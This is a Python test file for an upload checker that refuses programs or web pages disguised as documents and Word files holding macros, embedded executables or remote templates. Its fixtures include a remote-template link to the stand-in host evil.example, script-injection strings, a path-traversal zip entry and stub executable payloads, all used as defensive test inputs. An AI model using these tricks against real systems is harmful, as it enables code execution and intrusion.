"""A supporting file is kept as what its bytes show it to be, under a name that says so: a
program or web page dressed as a document is refused, a document misnamed is renamed, and Word
files hold only the parts a document has (no macros, programs or packaged objects)."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib

import docx
import pytest

from engine.core.errors import InvalidData
from engine.records.file_types import checked_file
from tests.support.files import FIXTURES
from tests.support.ole import installer, outlook_message, word_97

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
EMAIL = (
    b"From: Sam Taylor <sam@example.org>\r\nTo: asb@example.org\r\n"
    b"Subject: Noise again\r\nDate: Mon, 2 Mar 2026 09:00:00 +0000\r\n\r\n"
    b"The music went on until 3am.\r\n"
)
HEADED_PAGE = b"From: a@example.org\nSubject: invoice\n<html><script>alert(1)</script></html>\n"
FILES = FIXTURES / "files"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


# One white pixel: a whole PNG, as a picture in a Word document needs.
PNG = (
    b"\x89PNG\r\n\x1a\n"
    + _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    + _chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
    + _chunk(b"IEND", b"")
)
MACROS = "application/vnd.ms-office.vbaProject"
DOCUMENT_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def word_document(*, picture: bool = False) -> bytes:
    document = docx.Document()
    document.add_paragraph("Statement of the housing officer")
    if picture:
        document.add_picture(io.BytesIO(PNG))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def repacked(content: bytes, extra: dict[str, bytes], edit=lambda name, data: data) -> bytes:
    """The Word package ``content`` with ``extra`` parts added and ``edit`` applied to each."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            target.writestr(name, edit(name, source.read(name)))
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


def refusal(filename: str, content: bytes) -> str:
    with pytest.raises(InvalidData) as refused:
        checked_file(filename, content)
    return refused.value.fields["file"]


@pytest.mark.parametrize(
    ("filename", "content", "holds"),
    [
        ("invoice.hta", PDF, "a PDF"),
        ("run.bat", PDF, "a PDF"),
        ("page.html", EMAIL, "an email"),
        ("image.svg", EMAIL, "an email"),
        ("setup.exe", PNG, "a PNG image"),
        ("statement.pdf.js", PDF, "a PDF"),
    ],
    ids=lambda value: value if isinstance(value, str) and "." in value else "",
)
def test_a_document_named_as_a_program_or_page_is_refused(
    filename: str, content: bytes, holds: str
) -> None:
    extension = filename.rsplit(".", 1)[1]
    message = refusal(filename, content)
    assert f"is named as a .{extension} file but holds {holds}" in message


@pytest.mark.parametrize(
    ("filename", "content", "kept_as", "media_type"),
    [
        ("statement.pdf", PDF, "statement.pdf", "application/pdf"),
        ("STATEMENT.PDF", PDF, "STATEMENT.PDF", "application/pdf"),
        ("scan", PDF, "scan.pdf", "application/pdf"),
        ("Minutes 12.03.2026", PDF, "Minutes 12.03.2026.pdf", "application/pdf"),
        ("photo.jpg", PNG, "photo.png", "image/png"),
        ("photo.jpeg", JPEG, "photo.jpeg", "image/jpeg"),
        ("complaint.eml", EMAIL, "complaint.eml", "message/rfc822"),
        ("complaint", EMAIL, "complaint.eml", "message/rfc822"),
        ("letter.doc", word_document(), "letter.docx", DOCX),
        ("message.msg", outlook_message(), "message.msg", "application/vnd.ms-outlook"),
        ("message.doc", outlook_message(), "message.msg", "application/vnd.ms-outlook"),
    ],
    ids=lambda value: value if isinstance(value, str) and "/" not in value else "",
)
def test_a_file_is_kept_under_the_name_of_what_it_holds(
    filename: str, content: bytes, kept_as: str, media_type: str
) -> None:
    kept = checked_file(filename, content)
    assert (kept.filename, kept.media_type) == (kept_as, media_type)


def test_an_installer_is_not_a_word_document_whatever_it_is_called() -> None:
    for name in ("update.msi", "update.doc", "update.msg"):
        assert "must be PDF, Word" in refusal(name, installer())
    # Word's own stream put inside an installer does not make it a document.
    assert "must be PDF, Word" in refusal("update.doc", installer(extra={"WordDocument": b"w"}))


def test_word_97_documents_are_told_apart_by_their_streams() -> None:
    made_by_libreoffice = (FILES / "statement.doc").read_bytes()
    kept = checked_file("statement.doc", made_by_libreoffice)
    assert (kept.filename, kept.media_type) == ("statement.doc", "application/msword")
    assert checked_file("notes.doc", word_97()).media_type == "application/msword"


@pytest.mark.parametrize(
    "streams",
    [
        {"Macros/VBA/dir": b"attribute", "Macros/PROJECT": b"ID="},
        {"_VBA_PROJECT_CUR/VBA/dir": b"attribute"},
        {"ObjectPool/_1234/\x01Ole10Native": b"MZ payload.exe"},
    ],
)
def test_a_word_97_document_with_macros_or_a_packaged_file_is_refused(streams) -> None:
    assert "macros" in refusal("report.doc", word_97(extra=streams))


def test_word_documents_made_by_word_processors_are_accepted() -> None:
    made_by_libreoffice = (FILES / "statement-libreoffice.docx").read_bytes()
    for content in (word_document(), word_document(picture=True), made_by_libreoffice):
        kept = checked_file("statement.docx", content)
        assert (kept.filename, kept.media_type) == ("statement.docx", DOCX)


@pytest.mark.parametrize(
    "extra",
    [
        {"payload.exe": b"MZ\x90\x00"},
        {"word/payload.exe": b"MZ\x90\x00"},
        {"word/media/../../payload.exe": b"MZ\x90\x00"},
        {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
        {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
        {"word/activeX/activeX1.xml": b"<ax/>"},
        {"content.xml": b"<office:document/>"},
    ],
)
def test_a_word_package_holding_anything_but_a_document_is_refused(extra) -> None:
    assert "macros" in refusal("report.docx", repacked(word_document(), extra))


def test_a_macro_enabled_word_package_is_refused() -> None:
    def macro_enabled(name: str, data: bytes) -> bytes:
        if name != "[Content_Types].xml":
            return data
        return data.replace(DOCUMENT_MAIN.encode(), MACROS.encode())

    assert "macros" in refusal("report.docx", repacked(word_document(), {}, macro_enabled))


def test_a_word_package_loading_a_template_from_elsewhere_is_refused() -> None:
    template = (
        b'<Relationship Id="rId99" TargetMode="External" Target="http://evil.example/t.dotm"'
        b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate"/></Relationships>'
    )

    def remote_template(name: str, data: bytes) -> bytes:
        if name != "word/_rels/document.xml.rels":
            return data
        return data.replace(b"</Relationships>", template)

    assert "macros" in refusal("report.docx", repacked(word_document(), {}, remote_template))


def _with_headers_changed(content: bytes, local: int, central: int, value: int) -> bytes:
    """``content`` with the byte at ``local`` of each entry's header, and at ``central`` of its
    directory record, set to ``value`` (or'ed in, for flags)."""
    changed = bytearray(content)
    for signature, offset in ((b"PK\x03\x04", local), (b"PK\x01\x02", central)):
        for found in re.finditer(re.escape(signature), content):
            changed[found.start() + offset] |= value
    return bytes(changed)


def test_a_damaged_or_locked_word_package_is_refused_as_not_a_document() -> None:
    made = word_document()
    damaged = bytearray(made)
    damaged[200:260] = b"\xff" * 60
    for content in (
        _with_headers_changed(made, 6, 8, 1),  # every part encrypted
        _with_headers_changed(made, 8, 10, 9),  # compressed by a method Python cannot read
        bytes(damaged),
        made[: len(made) // 2],
    ):
        assert "must be PDF, Word" in refusal("report.docx", content)


def test_open_document_text_is_not_accepted() -> None:
    odt = (FILES / "statement.odt").read_bytes()
    assert "must be PDF, Word" in refusal("statement.odt", odt)
    assert "must be PDF, Word" in refusal("statement.docx", odt)


def test_a_web_page_with_mail_headers_is_not_an_email() -> None:
    assert "must be PDF, Word" in refusal("page.eml", HEADED_PAGE)
    assert "must be PDF, Word" in refusal("page.eml", b"<svg onload=alert(1)>\nFrom: a\nTo: b\n\n")
